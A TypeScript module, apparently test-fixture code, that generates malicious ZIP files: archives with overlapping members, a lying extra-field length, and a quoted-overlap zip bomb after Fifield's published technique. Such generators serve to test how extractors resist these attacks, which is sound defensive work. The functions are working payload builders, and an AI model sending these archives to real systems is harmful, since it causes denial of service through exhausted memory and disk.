/** Malicious ZIPs: members that share bytes, and central directories that lie. */
import { crc32, deflateRawSync } from 'node:zlib';

export interface ZipEntry {
  name: string;
  /** Where its local header lies. */
  offset: number;
  packedBytes: number;
  sizeBytes: number;
  crc: number;
}

function header(signature: number, isCentral: boolean, entry: ZipEntry): Buffer {
  const head = Buffer.alloc(isCentral ? 46 : 30);
  head.writeUInt32LE(signature, 0);
  const at = isCentral ? 6 : 4;
  head.writeUInt16LE(20, at);
  head.writeUInt16LE(8, at + 4);
  head.writeUInt32LE(entry.crc, at + 10);
  head.writeUInt32LE(entry.packedBytes, at + 14);
  head.writeUInt32LE(entry.sizeBytes, at + 18);
  head.writeUInt16LE(entry.name.length, at + 22);
  if (isCentral) head.writeUInt32LE(entry.offset, 42);
  return Buffer.concat([head, Buffer.from(entry.name)]);
}

/** A local header; `extraBytes` claims an extra field that is not there, which moves the start of the data. */
export function localHeader(entry: ZipEntry, extraBytes = 0): Buffer {
  const head = header(0x04034b50, false, entry);
  head.writeUInt16LE(extraBytes, 28);
  return head;
}

/** Appends the central directory and the end record to `content`. */
export function withDirectory(content: Buffer, entries: readonly ZipEntry[]): Buffer {
  const list = Buffer.concat(entries.map((entry) => header(0x02014b50, true, entry)));
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(list.length, 12);
  end.writeUInt32LE(content.length, 16);
  return Buffer.concat([content, list, end]);
}

/** Lists every name with the same compressed bytes. */
export function fullOverlapZip(names: readonly string[], content: Buffer): Buffer {
  const packed = deflateRawSync(content);
  const entry = { offset: 0, packedBytes: packed.length, sizeBytes: content.length, crc: crc32(content) };
  const entries = names.map((name) => ({ name, ...entry }));
  return withDirectory(Buffer.concat([localHeader(entries[0]!), packed]), entries);
}

/**
 * Each member packs the headers of those behind it as literal text and then runs on into their bytes, so that all end in
 * the same kernel (D. Fifield, A better zip bomb, USENIX WOOT 2019).
 */
export function quotedOverlapZip(names: readonly string[], kernel: Buffer): Buffer {
  const entries: ZipEntry[] = [];
  let packed: Buffer = deflateRawSync(kernel);
  let plain = kernel;
  const total = names.reduce((sum, name) => sum + 30 + name.length + 5, 0) - 5;
  let offset = total;
  for (const [i, name] of [...names].reverse().entries()) {
    if (i > 0) offset -= 5;
    offset -= 30 + name.length;
    const entry = { name, offset, packedBytes: packed.length, sizeBytes: plain.length, crc: crc32(plain) };
    const local = localHeader(entry);
    entries.unshift(entry);
    const literal = Buffer.alloc(5);
    literal.writeUInt16LE(local.length, 1);
    literal.writeUInt16LE(~local.length & 0xffff, 3);
    plain = Buffer.concat([local, plain]);
    packed = Buffer.concat([i === names.length - 1 ? Buffer.alloc(0) : literal, local, packed]);
  }
  return withDirectory(packed, entries);
}
